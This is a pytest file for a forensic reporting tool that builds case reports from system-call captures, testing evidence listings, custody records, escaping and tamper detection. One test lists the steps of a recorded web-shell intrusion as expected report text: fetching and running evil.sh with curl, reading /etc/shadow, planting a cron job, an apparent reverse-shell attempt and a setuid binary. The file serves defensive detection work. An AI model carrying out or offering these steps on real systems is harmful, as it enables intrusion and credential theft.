"""A report of a whole case: what happened is in it, in every form."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.capture.stories import break_in
from tests.custody.ledgers import signer_of
from tests.reference import SHARED, needs_reference
from tests.report.browser import browsing, needs_browser, show
from tiercel.case import Case
from tiercel.reconstruct.scene import Scene
from tiercel.report.assemble import Findings, report
from tiercel.report.html import html
from tiercel.report.model import Report
from tiercel.report.writing import Form, write_into

WEBSHELL = SHARED / "captures/modern/a-seed-webshell/a-seed-webshell.scap"
UPSTREAM = [SHARED / "rules/upstream" / f"falco{kind}_rules.yaml" for kind in ("", "-incubating", "-sandbox")]


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Case:
    """A case with a made-up break-in and a file that is only kept."""
    folder = tmp_path_factory.mktemp("reported")
    break_in().write(folder / "break-in.scap")
    (folder / "memo.txt").write_text("found on the desk\n")
    made = Case.new(folder / "case", "The web shop", signer_of("A. Name"))
    made.add(folder / "break-in.scap")
    made.add(folder / "memo.txt")
    made.note("asked the owner about <b>memo</b>")
    return made


@pytest.fixture(scope="module")
def findings(case: Case) -> Findings:
    return Findings.of(Scene.load(case.store))


def test_tells_what_the_case_holds(case: Case, findings: Findings) -> None:
    made = report(case, findings)
    assert made.title == "The web shop"
    assert made.examiner == "A. Name"
    assert [row.cells[1] for row in made.evidence.rows] == ["break-in.scap", "memo.txt"]
    assert case.evidence[0].digests.sha256 in made.evidence.rows[0].cells
    assert len(made.custody.rows) == len(list(case.ledger.entries()))
    assert made.notes[0][1:] == ("A. Name", "asked the owner about <b>memo</b>")
    assert ("tiercel", case.ledger.append("looked").tool["tiercel"]) in made.tools
    kept = [row.cells for row in made.indicators.rows if row.cells[0].startswith("file hash")]
    assert kept[0][1] == case.evidence[1].digests.sha256


def test_says_when_nothing_was_verified(case: Case, findings: Findings) -> None:
    assert "not verified" in report(case, findings).custody_state


def test_is_written_into_the_case_and_stays_verifiable(case: Case, findings: Findings) -> None:
    forms = [Form.HTML, Form.MARKDOWN, Form.JSON]
    page, text, data = write_into(case, forms, findings)
    assert "asked the owner about &lt;b&gt;memo&lt;/b&gt;" in page.read_text("utf-8")
    assert "The web shop" in text.read_text("utf-8")
    assert json.loads(data.read_bytes())["custody_state"].startswith("The case was verified before this report")
    assert case.verify().ok
    page.chmod(0o644)
    page.write_text(page.read_text("utf-8").replace("The web shop", "The web chop"), "utf-8")
    faults = [str(fault) for fault in case.verify(record=False).faults]
    assert len(faults) == 1
    assert page.name in faults[0]


@pytest.fixture(scope="module")
def webshell(tmp_path_factory: pytest.TempPathFactory) -> Report:
    made = Case.new(tmp_path_factory.mktemp("webshell") / "case", "Web shell", signer_of("A. Name"))
    made.add(WEBSHELL, rules=UPSTREAM)
    return report(made, Findings.of(Scene.load(made.store)))


@needs_reference
def test_a_recorded_attack(webshell: Report) -> None:
    (incident,) = webshell.incidents
    story = " ".join(step.text for step in incident.steps)
    steps = [
        "runc --root /run/runc exec -t",
        "curl http://127.0.0.1:8080/evil.sh -o /tmp/evil.sh",
        "created /tmp/evil.sh",
        "chmod +x /tmp/evil.sh",
        "/etc/shadow",
        "/etc/cron.d/x",
        "127.0.0.1:4444 and failed",
        "chmod u+s /tmp/.b",
        "deleted /tmp/evil.sh",
    ]
    places = [story.index(step) for step in steps]
    assert places == sorted(places)
    assert [row.cells[0] for row in webshell.files.rows if row.marked] == [
        "/etc/cron.d/x",
        "/tmp/.b",
        "/tmp/evil.sh",
        "/tmp/.s",
        "/root/.bash_history",
    ]
    assert {"T1053.003", "T1548.001", "T1105", "T1003.008"} <= {technique.id for technique in webshell.techniques}
    assert incident.lanes[0].label.startswith("bash ")
    assert [lane.depth for lane in incident.lanes[:3]] == [0, 1, 1]


@needs_reference
@needs_browser
@pytest.mark.slow
@pytest.mark.parametrize("width", [360, 1300])
def test_a_recorded_attack_fits_the_screen(webshell: Report, width: int, tmp_path: Path) -> None:
    page = tmp_path / "report.html"
    page.write_text(html(webshell), "utf-8")
    with browsing(tmp_path) as driver:
        show(driver, page, width=width)
        assert driver.execute_script("return document.documentElement.scrollWidth") <= width
        marks = driver.execute_script("return document.querySelectorAll('.incident svg polygon').length")
        assert marks == sum(mark.alert for lane in webshell.incidents[0].lanes for mark in lane.marks)
